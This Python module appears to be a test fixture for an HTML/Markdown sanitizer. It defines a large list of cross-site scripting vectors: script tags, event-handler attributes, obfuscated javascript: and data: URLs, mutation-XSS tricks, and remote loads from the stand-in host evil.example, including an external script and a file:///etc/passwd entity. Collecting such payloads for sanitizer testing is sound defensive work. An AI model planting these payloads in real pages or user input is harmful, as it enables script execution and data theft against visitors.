"""Texts that would run, restyle or fetch something, if anything let them."""

from __future__ import annotations

import re

VECTORS = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script/xss src="https://evil.example/x.js"></script>
<script	src=data:,alert(1)></script>
"><script>alert(1)</script>
</p></div></article><script>alert(1)</script>
<div><scr<foo>ipt>alert(1)</scr</foo>ipt></div>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" >
<img/src=x/onerror=alert(1)>
<img src=x onerror
=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src="javascript:alert(1)">
<img src=`javascript:alert(1)`>
<img src="https://evil.example/pixel.gif">
<img src=//evil.example/pixel.gif>
<img src="/\evil.example/pixel.gif">
<img src="\\evil.example\pixel.gif">
<img src="/	/evil.example/pixel.gif">
<img src=" https://evil.example/pixel.gif">
<img src="hTTps:evil.example/pixel.gif">
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<img srcset="https://evil.example/a.png 2x" src=a.png>
<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/b" longdesc="https://evil.example/c">
<image src="https://evil.example/a.png">
<picture><source srcset="https://evil.example/a.png"><img src=a.png></picture>
![x](javascript:alert(1))
![x](data:image/png;base64,AAAA)
![x](//evil.example/a.png)
![x](/\evil.example/a.png)
![x](https://evil.example/a.png "a\" onerror=\"alert(1)")
![" onerror="alert(1)](a.png)
![a](a.png"onerror="alert(1))
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=10>x</text></a></svg>
<svg><image href="https://evil.example/a.png" /></svg>
<svg><use href="https://evil.example/a.svg#x"/></svg>
<svg><style>*{background:url(https://evil.example/)}</style></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<iframe src="https://evil.example/"
<object data="https://evil.example/x.swf"></object>
<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<applet code="x.class" codebase="https://evil.example/"></applet>
<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay></video>
<video><source onerror="alert(1)"></video>
<audio src="https://evil.example/x.mp3" onloadstart=alert(1)></audio>
<track src="https://evil.example/x.vtt">
<body onload=alert(1)>
<body background="https://evil.example/x.png">
<html manifest="https://evil.example/x">
<head><base href="https://evil.example/"></head>
<base target=_blank href=javascript:/a/-alert(1)/////////>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=preload as=image href="https://evil.example/x.png">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Set-Cookie" content="x=1">
<style>@import "https://evil.example/x.css"; body{display:none}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<div style="background:url(https://evil.example/x.png)">a</div>
<div style="position:fixed;inset:0;z-index:9999">a</div>
<p style="width:expression(alert(1))">a</p>
<xss style="behavior:url(x.htc)">
<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">a</td></tr></table>
<font face="x" color="red" size=7>a</font>
<marquee onstart=alert(1)>a</marquee>
<blink>a</blink><center>b</center>
<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)></form>
<form><button formaction="javascript:alert(1)">a</button></form>
<input type="image" src="https://evil.example/x.png">
<isindex type=image src=1 onerror=alert(1)>
<select onfocus=alert(1) autofocus><option>a</select>
<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button onclick="alert(1)">a</button>
<label for="__search">a</label>
<details open ontoggle="alert(1)"><summary>a</summary></details>
<dialog open>a</dialog>
<frameset><frame src="https://evil.example/"></frameset>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<title><img title="</title><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="https://evil.example/x.xsl"?>
<!DOCTYPE html SYSTEM "https://evil.example/x.dtd">
<!ENTITY x SYSTEM "file:///etc/passwd">
<a href="javascript:alert(1)">a</a>
<a href="JaVaScRiPt:alert(1)">a</a>
<a href=" javascript:alert(1)">a</a>
<a href="java	script:alert(1)">a</a>
<a href="java&#9;script:alert(1)">a</a>
<a href="java&#10;script:alert(1)">a</a>
<a href="java&#x0D;script:alert(1)">a</a>
<a href="&#1;javascript:alert(1)">a</a>
<a href="&#x6A;&#x61;vascript&colon;alert(1)">a</a>
<a href="&#0000106avascript:alert(1)">a</a>
<a href="javascript&Tab;&NewLine;:alert(1)">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="data:text/html,<script>alert(1)</script>">a</a>
<a href="blob:https://evil.example/x">a</a>
<a href="file:///etc/passwd">a</a>
<a href="feed:javascript:alert(1)">a</a>
<a href="view-source:javascript:alert(1)">a</a>
<a href="jar:javascript:alert(1)!/">a</a>
<a href="intent://evil#Intent;end">a</a>
<a href="//evil.example/">a</a>
<a href="/\evil.example/">a</a>
<a href="/&#1;/evil.example/">a</a>
<a href=x onclick=alert(1) target=_blank ping="https://evil.example/" download>a</a>
<a href="https://a.example/" onmouseover="alert(1)" style="x" class="md-button" rel="opener" target="x">a</a>
<a href='x' href='javascript:alert(1)'>a</a>
[a](javascript:alert(1))
[a](JAVASCRIPT:alert(1))
[a](java&#x09;script:alert(1))
[a](&#x6A;avascript:alert(1))
[a](javascript&colon;alert(1))
[a](<java script:alert(1)>)
[a](\javascript:alert(1))
[a](vbscript:alert(1))
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](file:///etc/passwd)
[a](blob:x)
[a](//evil.example)
[a](x "\" onmouseover=\"alert(1)")
[a](x 'a" onmouseover="alert(1)')
[a](https://a.example/"onmouseover="alert(1))
[a]: javascript:alert(1) "x"<br>[a]
<javascript:alert(1)>
<vbscript:alert(1)>
<data:text/html,x>
https://a.example/"onmouseover="alert(1)
https://a.example/<script>alert(1)</script>
www.a.example/'onmouseover='alert(1)
a@b.example"onmouseover="alert(1)
`<script>alert(1)</script>`
``` <script>alert(1)</script> ```
:<script>alert(1)</script>:
| <img src=x onerror=alert(1)> | a |
<p id="__search" name="location" class="md-overlay">a</p>
<a id="x" name="x" href="#x">a</a><a id="x">b</a>
<img name="body" id="location" src=a.png>
<map name=x><area href="javascript:alert(1)"></map><img usemap="#x" src=a.png>
<div hidden role="alert" aria-hidden="true" tabindex=1 contenteditable accesskey=x data-md-component="search">a</div>
<div itemprop="x" is="x-y" slot="x" part="x" nonce="x">a</div>
<x-element onclick=alert(1)>a</x-element>
<div class="highlight admonition twemoji">a</div>
<span class="twemoji"><svg></svg></span>
<label class="task-list-control"><input type="checkbox"></label>
<vh-slot n="0"></vh-slot> :material-forum: <vh-slot n="m0000000000000000-0">x</vh-slot>
<div title="<a href='value:candor'>"><img alt="<script>alert(1)</script>" src="a.png"></div>
<div title="<img src=" lang="><a title=" dir="> href=">a</div> "> <a href="value:candor">b</a>
<div title="

:material-forum: [a](value:candor)

<script>alert(1)</script>">
<a href="value:candor"><table><tr><td><a href="value:x">b</a></td></tr></table></a>
<a href="guide.md">a <a href="value:candor">b</a> c</a>
<b><p><a href="guide.md"></b></p> c</a>
<table><a href="value:candor">b</table>c</a>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
{{ config.__class__ }} {% raw %} ${alert(1)} <%= alert(1) %>
<script>alert(1)</script>
<p>&#2;value:candor&#5;&#5;0&#3; &#1; &#4;a.png&#5;&#5;&#5;</p>
'''.strip("\n")


def vectors() -> list[str]:
    """One per line; those of several lines by the blank lines in them."""
    joined = re.sub(r"\n\n", "\x00\x00", VECTORS)
    return [line.replace("\x00", "\n") for line in joined.split("\n")]
